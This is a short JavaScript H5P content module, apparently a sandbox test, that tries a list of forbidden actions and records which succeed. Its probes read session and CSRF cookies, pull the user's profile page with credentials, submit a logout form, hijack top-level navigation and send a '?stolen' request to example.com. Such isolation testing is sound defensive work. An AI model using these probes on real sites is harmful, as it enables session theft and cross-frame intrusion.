// A content that tries everything it should not be able to do, and says what it could.
H5P.Salt = function () {
  this.attach = async function ($box) {
    var found = {}, attempts = {
      parentDom: () => window.parent.document.title,
      parentLocation: () => window.parent.location.href,
      topDom: () => window.top.document.body.innerHTML,
      opener: () => window.opener.document.title,
      cookie: () => { if (!/sessionid|csrftoken/.test(document.cookie)) throw new Error('none'); return document.cookie; },
      storage: () => Object.getPrototypeOf(window.localStorage) === Storage.prototype ? 'real' : nothing,
      database: () => new Promise((yes, no) => { var r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; }),
      profile: () => fetch('/en/my-learning/', {credentials: 'include'}).then(r => r.text()),
      record: () => fetch('RECORD', {method: 'POST', credentials: 'include', body: '{}'}),
      others: () => fetch('OTHER').then(r => r.text()),
      outside: () => fetch('https://example.com/?stolen=1'),
      frame: () => new Promise((yes, no) => { var f = document.createElement('iframe'); f.src = '/en/my-learning/';
        f.onload = () => { try { yes(f.contentDocument.body.innerHTML.length || no()); } catch (e) { no(e); } };
        document.body.append(f); setTimeout(no, 1500); }),
      popup: () => { if (!window.open('/en/')) throw new Error('blocked'); },
      navigate: () => { window.top.location = 'https://example.com/'; },
      form: () => new Promise((yes, no) => { document.body.insertAdjacentHTML('beforeend',
        '<form id="f" action="/accounts/logout/" method="post"></form>'); document.getElementById('f').submit();
        setTimeout(no, 800); }),
      worker: () => navigator.serviceWorker.register('/h5p/x.js'),
      pixel: () => new Promise((yes, no) => { var i = new Image(); i.onload = yes; i.onerror = no; i.src = '/media/x.png?stolen'; setTimeout(no, 800); }),
    };
    for (var name in attempts) {
      try { await attempts[name](); found[name] = true; } catch (e) { found[name] = false; }
    }
    document.body.dataset.found = JSON.stringify(found);
  };
};
